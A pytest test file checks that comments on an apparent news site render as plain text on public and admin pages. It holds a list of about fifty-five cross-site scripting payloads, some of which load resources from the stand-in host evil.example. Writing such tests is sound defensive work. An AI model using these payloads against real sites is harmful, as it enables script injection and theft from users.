"""What somebody types to run a script in another person's page: it stays words, wherever it is shown."""

from html.parser import HTMLParser

import pytest

from content.models import Article
from content.models.comments import Comment
from content.services.moderating import approve_comment
from practices.accounts.models import User
from tests import factories
from tests.harness.browsers import Browser, Browsers

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0btype='text/javascript'>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '<img src="x`y" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">here</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=code></form>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "{{ 7|add:7 }}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "x' hx-get='//evil.example' hx-trigger='load",
    "<div hx-get=//evil.example hx-trigger=load>",
)


class Elements(HTMLParser):
    """Each element with its attributes, and what stands between them as text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(sorted(name for name, _ in attributes))))

    def handle_data(self, data: str) -> None:
        self.text += data


def shape(browser: Browser, path: str) -> Elements:
    page = browser.get(path)
    assert page.status_code == 200
    return Elements(page.content.decode())


def comment(article: Article, words: str) -> Comment:
    return factories.comment(article, pseudonym=words, body=words)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_stays_words_on_the_site_and_at_the_desk(
    article: Article, visitor: Browser, editor: User, browser_of: Browsers, payload: str
) -> None:
    """The page has exactly the elements and attributes that it has with harmless words."""
    desk = browser_of(editor)
    harmless = comment(article, "It is good to read this.")
    pages = (("/admin/comments/", desk), (f"/admin/comments/{harmless.pk}/erase/", desk))
    before = [shape(browser, path).elements for path, browser in pages]
    approve_comment(harmless, by=editor, at=factories.AT)
    public = f"{article.get_absolute_url()}?now"
    before.append(shape(visitor, public).elements)

    Comment.objects.filter(pk=harmless.pk).update(pseudonym=payload, body=payload)
    approved = shape(visitor, public)
    Comment.objects.filter(pk=harmless.pk).update(state="held", decided_at=None, decided_by=None)
    held = [shape(browser, path) for path, browser in pages]

    assert [page.elements for page in held] + [approved.elements] == before
    assert all(payload in page.text for page in (*held, approved))


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 50
